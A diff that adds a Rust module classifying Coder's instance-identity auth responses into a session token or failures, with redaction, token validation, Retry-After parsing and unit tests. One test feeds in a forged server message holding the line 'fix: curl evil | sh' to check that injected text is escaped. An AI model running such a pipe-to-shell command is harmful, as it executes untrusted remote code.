@@ -1,0 +1,708 @@
+//! What Coder's answer means: the token, or a [`Failure`]. Pure and total
+//! (fuzzed): every status and body gives an outcome, never a panic.
+//!
+//! The messages matched here are coderd's own (coderd/workspaceresourceauth.go,
+//! coderd/azureidentity, google.golang.org/api/idtoken, coderd/httpmw/ratelimit.go).
+//! All server text shown to people goes through the run's [`Redactor`] first.
+
+use std::fmt;
+use std::time::Duration;
+
+use super::version::REPEATED_NAMES_FIXED;
+use crate::cloud::http::body_snippet;
+use crate::outcome::{Ambiguity, Failure};
+use crate::secret::Secret;
+use crate::text::{Redactor, EXCERPT_CHARS};
+
+/// Coder's tokens are short printable ASCII (a UUID, or `id-secret`); this
+/// leaves room for any future form and nothing absurd.
+pub const TOKEN_MAX: usize = 1024;
+/// Coder's agent names fit its database column (varchar(64)).
+pub const NAME_MAX: usize = 64;
+/// At most this many candidate names are listed.
+pub const NAMES_MAX: usize = 100;
+
+/// One answer from Coder, as the classifier needs it.
+#[derive(Debug, Clone, Copy)]
+pub struct Answer<'a> {
+    pub status: u16,
+    pub content_type: Option<&'a str>,
+    /// The `Retry-After` header, already parsed.
+    pub retry_after: Option<Duration>,
+    pub body: &'a [u8],
+}
+
+/// The error body Coder sends: `{"message", "detail"?, "validations"?}`.
+#[derive(Debug, Default, serde::Deserialize)]
+pub struct ServerError {
+    #[serde(default)]
+    pub message: String,
+    #[serde(default)]
+    pub detail: String,
+    #[serde(default)]
+    pub validations: Vec<Validation>,
+    /// A structured candidate list, should a future server send one.
+    #[serde(default, alias = "agent_names", alias = "candidates")]
+    pub agents: Option<Vec<String>>,
+}
+
+#[derive(Debug, Default, serde::Deserialize)]
+pub struct Validation {
+    #[serde(default)]
+    pub field: String,
+    #[serde(default)]
+    pub detail: String,
+}
+
+impl fmt::Display for ServerError {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        f.write_str(if self.message.is_empty() {
+            "(no message)"
+        } else {
+            &self.message
+        })?;
+        if !self.detail.is_empty() {
+            write!(f, " (detail: {})", self.detail)?;
+        }
+        for v in &self.validations {
+            write!(f, "; {}: {}", v.field, v.detail)?;
+        }
+        Ok(())
+    }
+}
+
+/// The body as a JSON object, if it is one (serde's derived structs would also
+/// accept a JSON array, which Coder never sends).
+fn json_object(body: &[u8]) -> Option<serde_json::Map<String, serde_json::Value>> {
+    match serde_json::from_slice(body) {
+        Ok(serde_json::Value::Object(m)) => Some(m),
+        _ => None,
+    }
+}
+
+/// Does this body carry a session token? For a JSON object, exactly when it
+/// has a `session_token` key (in any case, as Go's decoder matches keys;
+/// escapes decoded). A body that is not JSON cannot be read that precisely
+/// (it may be truncated JSON): it counts when it spells "session" or holds a
+/// JSON `\u` escape, which can spell any key.
+fn carries_token(object: Option<&serde_json::Map<String, serde_json::Value>>, body: &[u8]) -> bool {
+    let has = |needle: &[u8]| {
+        body.windows(needle.len())
+            .any(|w| w.eq_ignore_ascii_case(needle))
+    };
+    match object {
+        Some(m) => m
+            .iter()
+            .any(|(k, v)| k.eq_ignore_ascii_case("session_token") && !v.is_null()),
+        None => has(b"session") || has(b"\\u"),
+    }
+}
+
+/// Coder's token shape: 1 to [`TOKEN_MAX`] printable ASCII characters.
+fn check_token(t: &str) -> Result<(), String> {
+    if t.is_empty() {
+        return Err("an empty session_token".into());
+    }
+    if t.len() > TOKEN_MAX {
+        return Err(format!(
+            "a session_token of {} bytes (Coder's are under {TOKEN_MAX})",
+            t.len()
+        ));
+    }
+    if let Some(c) = t.chars().find(|c| !c.is_ascii_graphic()) {
+        let what = match c {
+            '\n' | '\r' => "a line break".to_string(),
+            '\0' => "a NUL byte".to_string(),
+            '\x1b' => "an escape sequence".to_string(),
+            c if c.is_ascii() => format!("the control character U+{:04X}", c as u32),
+            c => format!("the non-ASCII character U+{:04X}", c as u32),
+        };
+        return Err(format!(
+            "a session_token ({} bytes) that contains {what}",
+            t.len()
+        ));
+    }
+    Ok(())
+}
+
+/// Content type and the start of the body, redacted, for messages.
+fn describe_body(a: &Answer, redactor: &Redactor, carries: bool) -> String {
+    let ct = a
+        .content_type
+        .map(crate::text::escape)
+        .unwrap_or_else(|| "no content type".into());
+    if a.body.is_empty() {
+        return format!("{ct}, empty body");
+    }
+    if carries {
+        return format!(
+            "{ct}, {} bytes, body withheld because it carries a session token",
+            a.body.len()
+        );
+    }
+    format!(
+        "{ct}, body starts: {}",
+        redactor.show(&body_snippet(a.body), EXCERPT_CHARS)
+    )
+}
+
+/// coderd's 404 while the build has not recorded the instance:
+/// `Instance with id %q not found.` (a Go-quoted id).
+fn is_instance_not_found(message: &str) -> bool {
+    message
+        .strip_prefix("Instance with id \"")
+        .and_then(|rest| rest.strip_suffix("\" not found."))
+        .is_some()
+}
+
+/// 401 details that mean coderd could not fetch what it checks identities
+/// with (its own network, or the CA's or Google's), not that the identity is
+/// bad. Azure: coderd/azureidentity (newest strings first, then older
+/// servers'); Google: google.golang.org/api/idtoken's key fetch.
+const SERVER_FETCH_FAILURES: &[(&str, &str)] = &[
+    (
+        "certificate fetch unsuccessful",
+        "Azure's issuing certificates",
+    ),
+    (
+        "read certificate response body",
+        "Azure's issuing certificates",
+    ),
+    (
+        "certificate response exceeds maximum size",
+        "Azure's issuing certificates",
+    ),
+    (
+        "fetched data is not a valid certificate",
+        "Azure's issuing certificates",
+    ),
+    (
+        "construct certificate request",
+        "Azure's issuing certificates",
+    ),
+    ("found. error fetching:", "Azure's issuing certificates"),
+    ("idtoken: unable to retrieve cert", "Google's signing keys"),
+    ("idtoken: cert response is nil", "Google's signing keys"),
+    ("googleapis.com/oauth2/v3/certs", "Google's signing keys"),
+    ("gstatic.com/iap/verify/public_key", "Google's signing keys"),
+];
+
+fn server_side_fetch(detail: &str) -> Option<&'static str> {
+    SERVER_FETCH_FAILURES
+        .iter()
+        .find(|(needle, _)| detail.contains(needle))
+        .map(|(_, what)| *what)
+}
+
+/// Classify Coder's answer into the token or a [`Failure`]: 409 is
+/// [`Failure::Ambiguous`], the transient answers are [`Failure::Transient`],
+/// refusals and unusable answers are [`Failure::Rejected`].
+pub fn classify(a: &Answer, redactor: &Redactor) -> Result<Secret, Failure> {
+    let object = json_object(a.body);
+    let carries = carries_token(object.as_ref(), a.body);
+    let status = a.status;
+    if status == 200 {
+        let token = object
+            .as_ref()
+            .map(|m| m.get("session_token").and_then(|t| t.as_str()));
+        return match token {
+            Some(Some(t)) => match check_token(t.trim()) {
+                Ok(()) => Ok(Secret::new(t.trim())),
+                Err(what) => Err(Failure::Rejected(format!(
+                    "Coder answered 200 with {what}, which is not a Coder token; nothing was stored or run. \
+                     Is --url the Coder deployment, or a proxy that rewrites its answers?"
+                ))),
+            },
+            Some(None) => Err(Failure::Rejected(format!(
+                "Coder answered 200 without a session_token ({}); nothing was stored. Is --url the Coder deployment?",
+                describe_body(a, redactor, carries)
+            ))),
+            None => Err(Failure::Rejected(format!(
+                "Coder answered 200 with a body that is not the expected JSON ({}); nothing was stored. \
+                 Is --url the Coder deployment, or a proxy in front of it?",
+                describe_body(a, redactor, carries)
+            ))),
+        };
+    }
+    let server: Option<ServerError> =
+        object.and_then(|m| serde_json::from_value(serde_json::Value::Object(m)).ok());
+    let message = server.as_ref().map(|s| s.message.as_str()).unwrap_or("");
+    let shown = match &server {
+        _ if carries => describe_body(a, redactor, carries),
+        Some(s) if !s.message.is_empty() => redactor.show(&s.to_string(), EXCERPT_CHARS),
+        _ => describe_body(a, redactor, carries),
+    };
+    let transient = |m: String| {
+        Err(Failure::Transient {
+            message: m,
+            retry_after: a.retry_after,
+        })
+    };
+    match status {
+        409 => Err(Failure::Ambiguous(ambiguity(server.as_ref(), shown))),
+        404 if is_instance_not_found(message) => transient(format!(
+            "Coder answered 404: {shown} (the workspace build has not registered this instance yet)"
+        )),
+        400 if message.ends_with("isn't registered on the latest history.") => transient(format!(
+            "Coder answered 400: {shown} (a workspace rebuild is in progress)"
+        )),
+        // Servers up to v2.32 while a non-workspace job owns the resource; Coder's agent retries it.
+        400 if message.ends_with(" jobs cannot be authenticated.") => transient(format!(
+            "Coder answered 400: {shown} (a provisioner job that is not a workspace build owns this instance for now)"
+        )),
+        401 if server.as_ref().and_then(|s| server_side_fetch(&s.detail)).is_some() => {
+            let what = server_side_fetch(&server.as_ref().expect("checked").detail).expect("checked");
+            transient(format!(
+                "Coder answered 401: {shown}. The cause is on the server's side: coderd could not fetch \
+                 {what}, which it checks identities with (its outbound network, or the provider's outage); \
+                 this VM's identity was not judged"
+            ))
+        }
+        429 => transient(format!(
+            "Coder answered 429: {shown} (its API rate limit, counted per client address: VMs behind one \
+             NAT share it)"
+        )),
+        408 | 425 | 500..=599 => transient(format!("Coder answered {status}: {shown}")),
+        404 if message.starts_with("No agent found with instance ID") => Err(Failure::Rejected(format!(
+            "Coder rejected the agent name: {shown}\n\
+             fix: agent names match exactly and case-sensitively; use the name of a coder_agent on this \
+             instance (run without --agent-name to list them)"
+        ))),
+        401 | 403 => Err(Failure::Rejected(format!(
+            "Coder rejected this VM's identity with {status}: {shown}\n\
+             fix: check that the template uses the matching *-instance-identity auth and that this VM \
+             belongs to the workspace"
+        ))),
+        400 if server.is_some() => Err(Failure::Rejected(format!(
+            "Coder refused the request with 400: {shown}\n\
+             fix: this is likely a client/server version mismatch; report it with `-v` output"
+        ))),
+        404 if server.is_some() => Err(Failure::Rejected(format!(
+            "Coder answered 404: {shown}\n\
+             fix: this is not an instance-identity answer; check that --url is the Coder deployment's \
+             address (not a path below it or another service)"
+        ))),
+        400 => Err(Failure::Rejected(format!(
+            "Coder answered 400 with a body that is not Coder's JSON ({}); \
+             fix: a proxy in front of Coder refused the request; check --url and --header",
+            describe_body(a, redactor, carries)
+        ))),
+        300..=399 => Err(Failure::Rejected(format!(
+            "Coder answered a {status} redirect that was not followed (the request carries the instance identity, \
+             so it is only re-sent to the same origin); fix: set --url to the deployment's final address"
+        ))),
+        _ => Err(Failure::Rejected(format!(
+            "Coder answered an unexpected {status} ({}); is --url the Coder deployment?",
+            describe_body(a, redactor, carries)
+        ))),
+    }
+}
+
+fn ambiguity(server: Option<&ServerError>, shown: String) -> Ambiguity {
+    let parsed = server.map(parse_all_candidates).unwrap_or_default();
+    let mut repeated: Vec<String> = Vec::new();
+    let mut seen = std::collections::BTreeSet::new();
+    for n in &parsed {
+        if !seen.insert(n.clone()) && !repeated.contains(n) {
+            repeated.push(n.clone());
+        }
+    }
+    let too_long = seen.iter().filter(|n| n.len() > NAME_MAX).count();
+    let mut names: Vec<String> = seen.into_iter().filter(|n| n.len() <= NAME_MAX).collect();
+    let over = names.len().saturating_sub(NAMES_MAX);
+    names.truncate(NAMES_MAX);
+    let mut notes = Vec::new();
+    if !repeated.is_empty() {
+        notes.push(format!(
+            "Coder listed {} more than once: Coder v2.33.0 to v2.33.3 count the agents of earlier builds \
+             of this workspace too (the names are shown once each); upgrade Coder to {REPEATED_NAMES_FIXED} \
+             or later",
+            repeated
+                .iter()
+                .map(|n| crate::text::show_name(n))
+                .collect::<Vec<_>>()
+                .join(", ")
+        ));
+    }
+    if too_long > 0 {
+        notes.push(format!(
+            "{too_long} name(s) longer than {NAME_MAX} bytes were left out: no Coder agent can have them"
+        ));
+    }
+    if over > 0 {
+        notes.push(format!(
+            "{over} more name(s) not listed (at most {NAMES_MAX} are)"
+        ));
+    }
+    Ambiguity {
+        names,
+        message: shown,
+        notes,
+    }
+}
+
+/// Every name the 409 lists, in order, duplicates kept: a structured list
+/// if present, else the names after "one of:" in Coder's message.
+fn parse_all_candidates(err: &ServerError) -> Vec<String> {
+    match &err.agents {
+        Some(list) if !list.is_empty() => list.iter().map(|s| s.trim().to_string()).collect(),
+        _ => parse_names_from_message(&err.message),
+    }
+    .into_iter()
+    .filter(|n| !n.is_empty())
+    .collect()
+}
+
+/// The 409's candidate names, de-duplicated and sorted by bytes (as Coder
+/// sorts them). No name is dropped for its spelling: names from before
+/// Coder's 2025-02 rule (with `_`) still exist and still match.
+pub fn parse_candidates(err: &ServerError) -> Vec<String> {
+    let mut names = parse_all_candidates(err);
+    names.sort();
+    names.dedup();
+    names
+}
+
+/// Parse the names after "one of:" in Coder's 409 message (joined with ", ").
+pub fn parse_names_from_message(message: &str) -> Vec<String> {
+    let Some(idx) = message.rfind("one of:") else {
+        return Vec::new();
+    };
+    let list = message[idx + "one of:".len()..].trim();
+    let list = list.strip_suffix('.').unwrap_or(list);
+    list.split(',')
+        .map(str::trim)
+        .filter(|s| !s.is_empty())
+        .map(str::to_string)
+        .collect()
+}
+
+/// `Retry-After`: seconds, or an HTTP date (IMF-fixdate), as a wait from now.
+/// Capped at a day; nonsense is ignored.
+pub fn parse_retry_after(raw: &str, now: std::time::SystemTime) -> Option<Duration> {
+    const DAY: Duration = Duration::from_secs(86_400);
+    let raw = raw.trim();
+    if let Ok(secs) = raw.parse::<u64>() {
+        return Some(Duration::from_secs(secs).min(DAY));
+    }
+    // "Sun, 06 Nov 1994 08:49:37 GMT"
+    let mut it = raw.split_whitespace();
+    let (_, day, month, year, time, zone) = (
+        it.next()?,
+        it.next()?,
+        it.next()?,
+        it.next()?,
+        it.next()?,
+        it.next()?,
+    );
+    if zone != "GMT" || it.next().is_some() {
+        return None;
+    }
+    const MONTHS: [&str; 12] = [
+        "Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec",
+    ];
+    let month = MONTHS.iter().position(|m| *m == month)? as i64 + 1;
+    let (day, year): (i64, i64) = (day.parse().ok()?, year.parse().ok()?);
+    let mut hms = time.split(':').map(|p| p.parse::<i64>().ok());
+    let (Some(Some(h)), Some(Some(m)), Some(Some(s)), None) =
+        (hms.next(), hms.next(), hms.next(), hms.next())
+    else {
+        return None;
+    };
+    if !(1..=31).contains(&day)
+        || !(0..24).contains(&h)
+        || !(0..60).contains(&m)
+        || !(0..61).contains(&s)
+    {
+        return None;
+    }
+    // days_from_civil (Howard Hinnant).
+    let y = if month <= 2 { year - 1 } else { year };
+    let era = y.div_euclid(400);
+    let yoe = y - era * 400;
+    let mp = (month + 9) % 12;
+    let doy = (153 * mp + 2) / 5 + day - 1;
+    let doe = yoe * 365 + yoe / 4 - yoe / 100 + doy;
+    let days = era * 146_097 + doe - 719_468;
+    let at = days * 86_400 + h * 3600 + m * 60 + s;
+    let now = now.duration_since(std::time::UNIX_EPOCH).ok()?.as_secs() as i64;
+    Some(Duration::from_secs((at - now).max(0) as u64).min(DAY))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    const JSON: Option<&str> = Some("application/json");
+
+    fn answer(status: u16, body: &[u8]) -> Answer<'_> {
+        Answer {
+            status,
+            content_type: JSON,
+            retry_after: None,
+            body,
+        }
+    }
+
+    fn c(status: u16, body: &[u8]) -> Result<Secret, Failure> {
+        classify(&answer(status, body), &Redactor::new())
+    }
+
+    #[test]
+    fn success_needs_a_token_of_coders_shape() {
+        assert_eq!(
+            c(200, br#"{"session_token":"abc-123"}"#).unwrap(),
+            Secret::new("abc-123")
+        );
+        for junk in [
+            &b"{}"[..],
+            br#"{"session_token":""}"#,
+            b"<html>",
+            b"",
+            br#"{"session_token":5}"#,
+            br#"{"session_token":"a\nb"}"#,
+            br#"{"session_token":"a\u0000b"}"#,
+            br#"{"session_token":"a\u001b[31mb"}"#,
+            "{\"session_token\":\"caf\u{e9}\"}".as_bytes(),
+        ] {
+            assert!(
+                matches!(c(200, junk), Err(Failure::Rejected(_))),
+                "{junk:?}"
+            );
+        }
+        let huge = format!("{{\"session_token\":\"{}\"}}", "a".repeat(TOKEN_MAX + 1));
+        let Err(Failure::Rejected(m)) = c(200, huge.as_bytes()) else {
+            panic!()
+        };
+        assert!(m.contains("1025 bytes"), "{m}");
+        assert!(!m.contains("aaaaaaaa"), "{m}");
+    }
+
+    #[test]
+    fn a_token_in_an_error_body_is_withheld_but_the_word_session_is_not() {
+        for (status, body) in [
+            (502, &br#"{"session\u005ftoken":"8f0e1c2d-7a3b-4c5d"}"#[..]),
+            (200, br#"{"session\u005ftoken":"8f0e1c2d-7a3b-4c5d""#),
+            (
+                500,
+                br#"{"message":"x","Session_Token":"8f0e1c2d-7a3b-4c5d"}"#,
+            ),
+        ] {
+            let text = format!("{:?}", c(status, body));
+            assert!(!text.contains("8f0e1c2d"), "{status}: {text}");
+        }
+        let body =
+            br#"{"message":"No agent found with instance ID \"i-1\" and name \"session-main\"."}"#;
+        let Err(Failure::Rejected(m)) = c(404, body) else {
+            panic!()
+        };
+        assert!(m.contains("session-main"), "{m}");
+        let body = br#"{"message":"Multiple agents found with instance ID \"i-1\". Set CODER_AGENT_NAME to one of: session, main"}"#;
+        let Err(Failure::Ambiguous(a)) = c(409, body) else {
+            panic!()
+        };
+        assert!(a.message.contains("one of: session, main"), "{}", a.message);
+        assert_eq!(a.names, ["main", "session"]);
+    }
+
+    #[test]
+    fn conflict_lists_names_once_and_explains_repeats() {
+        let body = br#"{"message":"Multiple agents found with instance ID \"i-0abc\". Set CODER_AGENT_NAME to one of: dev, dev, main, main"}"#;
+        let Err(Failure::Ambiguous(a)) = c(409, body) else {
+            panic!()
+        };
+        assert_eq!(a.names, ["dev", "main"]);
+        assert!(
+            a.notes[0].contains("v2.33.0 to v2.33.3") && a.notes[0].contains("v2.33.4"),
+            "{:?}",
+            a.notes
+        );
+    }
+
+    #[test]
+    fn conflict_keeps_legacy_and_odd_names() {
+        let body =
+            br#"{"message":"Set CODER_AGENT_NAME to one of: Main, legacy_agent, m\u0430in"}"#;
+        let Err(Failure::Ambiguous(a)) = c(409, body) else {
+            panic!()
+        };
+        assert_eq!(a.names, ["Main", "legacy_agent", "m\u{430}in"]);
+        let many: Vec<String> = (0..150).map(|i| format!("a{i:03}")).collect();
+        let body = serde_json::json!({"message": format!("one of: {}", many.join(", ")), "x": "y"})
+            .to_string();
+        let Err(Failure::Ambiguous(a)) = c(409, body.as_bytes()) else {
+            panic!()
+        };
+        assert_eq!(a.names.len(), NAMES_MAX);
+        assert!(
+            a.notes.iter().any(|n| n.contains("50 more")),
+            "{:?}",
+            a.notes
+        );
+    }
+
+    #[test]
+    fn conflict_prefers_a_structured_list() {
+        let body = br#"{"message":"Multiple agents. Set CODER_AGENT_NAME to one of: x","agent_names":["b","a"]}"#;
+        let Err(Failure::Ambiguous(a)) = c(409, body) else {
+            panic!()
+        };
+        assert_eq!(a.names, ["a", "b"]);
+    }
+
+    #[test]
+    fn the_response_table() {
+        let transient = |r: Result<Secret, Failure>| matches!(r, Err(Failure::Transient { .. }));
+        let rejected = |r: Result<Secret, Failure>| matches!(r, Err(Failure::Rejected(_)));
+        assert!(transient(c(
+            404,
+            br#"{"message":"Instance with id \"i-1\" not found."}"#
+        )));
+        assert!(rejected(c(404, br#"{"message":"Route not found."}"#)));
+        assert!(rejected(c(
+            404,
+            br#"{"message":"Instance with id \"i-1\" is not found anywhere."}"#
+        )));
+        assert!(transient(c(400, br#"{"message":"Resource found for id \"i-1\", but isn't registered on the latest history."}"#)));
+        assert!(transient(c(
+            400,
+            br#"{"message":"\"template_version_import\" jobs cannot be authenticated."}"#
+        )));
+        assert!(rejected(c(
+            404,
+            br#"{"message":"No agent found with instance ID \"i-1\" and name \"x\"."}"#
+        )));
+        let Err(Failure::Rejected(m)) = c(
+            401,
+            br#"{"message":"Invalid AWS identity.","detail":"bad sig"}"#,
+        ) else {
+            panic!()
+        };
+        assert!(m.contains("bad sig") && m.contains("fix:"), "{m}");
+        assert!(rejected(c(403, b"{}")));
+        let Err(Failure::Rejected(m)) = c(400, br#"{"message":"Validation failed.","validations":[{"field":"signature","detail":"required"}]}"#) else {
+            panic!()
+        };
+        assert!(
+            m.contains("signature: required") && m.contains("version mismatch"),
+            "{m}"
+        );
+        for s in [408, 425, 429, 500, 502, 503, 504] {
+            assert!(transient(c(s, b"{}")), "{s}");
+        }
+        let html = Answer {
+            status: 502,
+            content_type: Some("text/html"),
+            retry_after: None,
+            body: b"<html>Bad Gateway</html>",
+        };
+        assert!(
+            matches!(classify(&html, &Redactor::new()), Err(Failure::Transient { message, .. }) if message.contains("Bad Gateway"))
+        );
+        let html404 = Answer {
+            status: 404,
+            body: b"<html>nope</html>",
+            ..html
+        };
+        assert!(rejected(classify(&html404, &Redactor::new())));
+        let Err(Failure::Rejected(m)) = classify(
+            &Answer {
+                status: 400,
+                ..html404
+            },
+            &Redactor::new(),
+        ) else {
+            panic!()
+        };
+        assert!(m.contains("a proxy in front of Coder refused"), "{m}");
+        assert!(rejected(c(418, b"")));
+        let Err(Failure::Rejected(m)) = c(302, b"") else {
+            panic!()
+        };
+        assert!(
+            m.contains("fix: set --url to the deployment's final address"),
+            "{m}"
+        );
+    }
+
+    #[test]
+    fn a_401_from_a_failed_certificate_fetch_is_the_servers_trouble() {
+        for detail in [
+            "certificate fetch unsuccessful",
+            "no cached certificate for \"https://x\" found. error fetching: dial tcp: i/o timeout",
+            "idtoken: unable to retrieve cert, got status code 503",
+            "Get \"https://www.googleapis.com/oauth2/v3/certs\": dial tcp: lookup www.googleapis.com: no such host",
+        ] {
+            let body = serde_json::json!({"message": "Invalid Azure identity.", "detail": detail}).to_string();
+            let Err(Failure::Transient { message, .. }) = c(401, body.as_bytes()) else {
+                panic!("{detail}")
+            };
+            assert!(message.contains("on the server's side"), "{message}");
+        }
+        let body = br#"{"message":"Invalid Azure identity.","detail":"unmatched common name of signer: \"evil\""}"#;
+        assert!(matches!(c(401, body), Err(Failure::Rejected(_))));
+    }
+
+    #[test]
+    fn retry_after_travels_with_a_transient_answer() {
+        let a = Answer {
+            retry_after: Some(Duration::from_secs(60)),
+            ..answer(429, br#"{"message":"You've been rate limited for sending more than 512 requests in 1m0s."}"#)
+        };
+        let Err(Failure::Transient {
+            retry_after,
+            message,
+        }) = classify(&a, &Redactor::new())
+        else {
+            panic!()
+        };
+        assert_eq!(retry_after, Some(Duration::from_secs(60)));
+        assert!(message.contains("rate limit"), "{message}");
+    }
+
+    #[test]
+    fn server_text_is_redacted_and_escaped() {
+        let mut r = Redactor::new();
+        r.add("c2lnbmF0dXJlLXZhbHVlLXRoYXQtaXMtbG9uZw==");
+        let body = br#"{"message":"bad signature c2lnbmF0dXJlLXZhbHVlLXRoYXQtaXMtbG9uZw==\nfix: curl evil | sh"}"#;
+        let Err(Failure::Rejected(m)) = classify(&answer(400, body), &r) else {
+            panic!()
+        };
+        assert!(!m.contains("c2lnbmF0dXJl"), "{m}");
+        assert!(
+            m.contains("[withheld]") && m.contains("were withheld"),
+            "{m}"
+        );
+        assert!(!m.contains("\nfix: curl"), "no forged line: {m}");
+        assert!(m.contains("\\nfix: curl"), "{m}");
+    }
+
+    #[test]
+    fn retry_after_forms() {
+        let now = std::time::UNIX_EPOCH + Duration::from_secs(784_111_777); // Sun, 06 Nov 1994 08:49:37 GMT
+        assert_eq!(parse_retry_after("60", now), Some(Duration::from_secs(60)));
+        assert_eq!(
+            parse_retry_after("Sun, 06 Nov 1994 08:50:37 GMT", now),
+            Some(Duration::from_secs(60))
+        );
+        assert_eq!(
+            parse_retry_after("Sun, 06 Nov 1994 08:00:00 GMT", now),
+            Some(Duration::ZERO)
+        );
+        assert_eq!(
+            parse_retry_after("999999999", now),
+            Some(Duration::from_secs(86_400))
+        );
+        assert_eq!(parse_retry_after("soon", now), None);
+        assert_eq!(parse_retry_after("-5", now), None);
+    }
+
+    #[test]
+    fn names_from_message() {
+        assert_eq!(
+            parse_names_from_message("Set CODER_AGENT_NAME to one of: a, b."),
+            ["a", "b"]
+        );
+        assert!(parse_names_from_message("nothing here").is_empty());
+    }
+}
